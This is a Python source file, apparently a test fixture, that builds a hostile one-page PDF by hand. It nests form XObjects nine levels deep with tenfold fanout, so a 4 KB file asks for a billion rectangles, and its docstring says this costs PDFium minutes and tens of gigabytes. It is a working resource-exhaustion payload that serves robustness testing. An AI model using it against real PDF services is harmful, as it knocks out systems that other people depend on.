"""Hostile PDFs written byte by byte (no PDF library): nested form XObject "bombs"."""

from __future__ import annotations


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<" + dictionary + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream"


def nested_forms_pdf(levels: int = 9, fanout: int = 10) -> bytes:
    """A one-page PDF whose page draws a form XObject that draws the form below it ``fanout``
    times, ``levels`` deep: ``fanout ** levels`` rectangles from about 4 KB of file.

    With the defaults (9 x 10, the case found by the hostile probe) an unbounded PDFium spends
    minutes and tens of GB on it. The cross-reference table is exact, so PDFium opens the file
    without repairing it.
    """
    objects: list[bytes] = []

    def add(body: bytes) -> int:
        objects.append(body)
        return len(objects)

    form = b"/Type/XObject/Subtype/Form/BBox[0 0 10 10]"
    current = add(_stream(form, b"0 0 10 10 re f"))
    for _ in range(levels):
        resources = b"/Resources<</XObject<</X %d 0 R>>>>" % current
        current = add(_stream(form + resources, b"q 0.9 0 0 0.9 0 0 cm /X Do Q " * fanout))
    contents = add(_stream(b"", b"/X Do"))
    catalog = add(b"<</Type/Catalog/Pages %d 0 R>>" % (len(objects) + 2))
    pages = add(b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (len(objects) + 2))
    add(
        b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 10 10]/Resources<</XObject<</X %d 0 R>>>>"
        b"/Contents %d 0 R>>" % (pages, current, contents)
    )
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        catalog,
        xref,
    )
    return bytes(out)
